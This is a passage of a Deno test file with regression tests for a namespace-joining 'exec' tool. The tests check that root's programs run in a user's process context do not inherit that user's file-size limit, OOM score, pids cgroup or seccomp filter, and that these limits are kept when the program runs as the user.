    // oom_score_adj and, where a cgroup is delegated to them (systemd's Delegate=, here made
    // by hand), sit in a cgroup whose limits they write. `exec -n net PID` runs root's host
    // program in the user's network namespace but in our user namespace, with root's
    // credentials: it took all three, and the user decided that root's program dies by
    // SIGXFSZ at 512 bytes (its file cut short), is the OOM killer's first pick, and cannot
    // fork. Joined into the user's namespace (`exec PID`), the program is theirs: all kept.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-conf27-" });
    await Deno.chmod(dir, 0o755);
    const cg = `/sys/fs/cgroup/pids/nsjoin-conf27-${Deno.pid}`;
    const haveV1Pids = await Deno.stat("/sys/fs/cgroup/pids/tasks").then(() => true, () => false);
    const ours = (await Deno.readTextFile("/proc/self/oom_score_adj")).trim();
    try {
      if (haveV1Pids) {
        // A delegated subtree, as systemd makes one: the directory and its process files the user's.
        await Deno.mkdir(cg);
        for (const f of ["", "/tasks", "/cgroup.procs"]) {
          await Deno.chown(cg + f, user.uid, user.gid);
        }
      }
      const setup = [
        haveV1Pids
          ? `mkdir ${cg}/sub && echo 1 > ${cg}/sub/pids.max && echo $$ > ${cg}/sub/cgroup.procs`
          : "",
        "ulimit -f 1",
        "echo 1000 > /proc/self/oom_score_adj",
      ].filter(Boolean).join(" && ");
      await using target = await makeTarget({
        flags: ["-U", "--map-root-user", "-n"],
        user: { uid: user.uid, gid: user.gid },
        setup,
      });
      const limits = await Deno.readTextFile(`/proc/${target.pid}/limits`);
      assertMatch(limits, /^Max file size\s+512\s+512\s+bytes/m);
      assertEquals((await Deno.readTextFile(`/proc/${target.pid}/oom_score_adj`)).trim(), "1000");
      // Shell built-ins only: the user's cgroup allows no fork.
      const probe =
        'ulimit -f; read o < /proc/self/oom_score_adj; echo oom=$o; while read l; do case $l in *:pids:*) echo "$l";; esac; done < /proc/self/cgroup';
      await t.step(
        "exec -n net: root's program keeps root's limits, score and cgroup",
        async () => {
          const r = await cliBounded(
            [
              "exec",
              "-n",
              "net",
              String(target.pid),
              "sh",
              "-c",
              `${probe}; head -c 4096 /dev/zero > ${dir}/out; echo size=$(wc -c < ${dir}/out)`,
            ],
            30_000,
          );
          // Without the fix: exit 153 (SIGXFSZ), "1", "oom=1000", the user's pids cgroup.
          assertEquals([r.code, r.killed], [0, false], r.stderr);
          assertMatch(r.stdout, /^unlimited$/m);
          assertMatch(r.stdout, new RegExp(`^oom=${ours}$`, "m"));
          assert(!r.stdout.includes("nsjoin-conf27-"), r.stdout);
          assertMatch(r.stdout, /^size=4096$/m);
        },
      );
      await t.step(
        "exec of its user namespace too: the program is the user's, all kept",
        async () => {
          // There the user's pids.max 1 refused the helper's fork ("the target's user has reached
          // its process limit"): lifted, to see the rest.
          if (haveV1Pids) await Deno.writeTextFile(`${cg}/sub/pids.max`, "max");
          const r = await cliBounded(["exec", String(target.pid), "sh", "-c", probe], 30_000);
          assertEquals([r.code, r.killed], [0, false], r.stderr);
          assertMatch(r.stdout, /^1$/m);
          assertMatch(r.stdout, /^oom=1000$/m);
          if (haveV1Pids) {
            assertMatch(r.stdout, new RegExp(`:pids:/nsjoin-conf27-${Deno.pid}/sub$`, "m"));
          }
        },
      );
    } finally {
      await Deno.remove(dir, { recursive: true });
      if (haveV1Pids) {
        await Deno.remove(`${cg}/sub`).catch(() => {});
        await Deno.remove(cg).catch(() => {});
      }
    }
  },
});

Deno.test({
  name:
    "stop 27: exec PID of a local user's plain process runs root's program under none of that user's filter, limits, oom_score_adj or cgroups",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // In our user namespace an unprivileged process may add a seccomp filter once it has set
    // no_new_privs, lower its limits and raise its oom_score_adj. Sharing every namespace of
    // ours, it is no container (only root makes one): these are its user's choices, and root's
    // `exec PID` ran a uid-0 program — the owner of root's files — under them (uname(2)
    // refused, files cut at 512 bytes, the OOM killer's first pick). Dropped to the user's uid
    // (`exec -u UID PID`), the program is the user's: all kept.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-conf27-p-" });
    await Deno.chmod(dir, 0o755);
    const ours = (await Deno.readTextFile("/proc/self/oom_score_adj")).trim();
    const cg = `/sys/fs/cgroup/pids/nsjoin-conf27p-${Deno.pid}`;
    const haveV1Pids = await Deno.stat("/sys/fs/cgroup/pids/tasks").then(() => true, () => false);
    try {
      if (haveV1Pids) {
        // A delegated subtree (systemd's user@UID.service on a v2 host), made by hand.
        await Deno.mkdir(cg);
        for (const f of ["", "/tasks", "/cgroup.procs"]) {
          await Deno.chown(cg + f, user.uid, user.gid);
        }
      }
      await Deno.writeTextFile(
        `${dir}/filt.c`,
        String.raw`#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int argc, char **argv) {
  struct sock_filter f[] = {
    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_uname, 0, 1),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 1),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog p = {sizeof f / sizeof *f, f};
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0) return 1;
  if (syscall(__NR_seccomp, SECCOMP_SET_MODE_FILTER, 0, &p) != 0) return 1;
  execvp(argv[1], argv + 1);
  return 1;
}
`,
      );
      await sh("gcc", ["-static", "-O2", "-o", `${dir}/filt`, `${dir}/filt.c`]);
      await Deno.chmod(`${dir}/filt`, 0o755);
      await using target = await makeTarget({
        flags: [],
        user: { uid: user.uid, gid: user.gid },
        setup: `${
          haveV1Pids
            ? `mkdir ${cg}/sub && echo 1 > ${cg}/sub/pids.max && echo $$ > ${cg}/sub/cgroup.procs && `
            : ""
        }ulimit -f 1 && echo 1000 > /proc/self/oom_score_adj && exec ${dir}/filt sh -c 'echo ready:$$; exec sleep 100000'`,
      });
      const status = await Deno.readTextFile(`/proc/${target.pid}/status`);
      assertMatch(status, /^NoNewPrivs:\s+1$/m);
      assertMatch(status, /^Seccomp_filters:\s+1$/m);
      assertMatch(await Deno.readTextFile(`/proc/${target.pid}/limits`), /^Max file size\s+512\s/m);
      const probe =
        'uname >/dev/null && echo uname-ok; ulimit -f; read o < /proc/self/oom_score_adj; echo oom=$o; cat /proc/self/status /proc/self/cgroup | grep -E "^(Uid|Seccomp_filters):|:pids:"';
      await t.step("exec PID: root's program under none of them", async () => {
        const r = await cliBounded(
          [
            "exec",
            String(target.pid),
            "sh",
            "-c",
            `${probe}; head -c 4096 /dev/zero > ${dir}/out; echo size=$(wc -c < ${dir}/out)`,
          ],
          30_000,
        );
        // Without the fix: no uname-ok, "1", "oom=1000", 1 filter, size=512 (and, with the
        // cgroup part removed alone, "sh: 1: Cannot fork" in the user's pids.max 1).
        assertEquals([r.code, r.killed], [0, false], r.stderr);
        assertMatch(r.stdout, /^uname-ok$/m);
        assertMatch(r.stdout, /^unlimited$/m);
        assertMatch(r.stdout, new RegExp(`^oom=${ours}$`, "m"));
        assertMatch(r.stdout, /^Uid:\s+0\s+0\s+0\s+0$/m);
        assertMatch(r.stdout, /^Seccomp_filters:\s+0$/m);
        assertMatch(r.stdout, /^size=4096$/m);
        assert(!r.stdout.includes("nsjoin-conf27p-"), r.stdout);
      });
      await t.step("exec -u UID PID: the program is the user's, all kept", async () => {
        // Its pids.max 1 would refuse the probe's forks: lifted, to see the rest.
        if (haveV1Pids) await Deno.writeTextFile(`${cg}/sub/pids.max`, "max");
        const r = await cliBounded(
          ["exec", "-u", `${user.uid}:${user.gid}`, String(target.pid), "sh", "-c", probe],
          30_000,
        );
        assertEquals([r.code, r.killed], [0, false], r.stderr);
        assert(!r.stdout.includes("uname-ok"), r.stdout);
        assertMatch(r.stdout, /^1$/m);
        assertMatch(r.stdout, /^oom=1000$/m);
        assertMatch(r.stdout, /^Seccomp_filters:\s+1$/m);
        if (haveV1Pids) {
          assert(r.stdout.includes(`:pids:/nsjoin-conf27p-${Deno.pid}/sub`), r.stdout);
        }
      });
    } finally {
      await Deno.remove(dir, { recursive: true });
      if (haveV1Pids) {
        await Deno.remove(`${cg}/sub`).catch(() => {});
        await Deno.remove(cg).catch(() => {});
      }
    }
  },
});
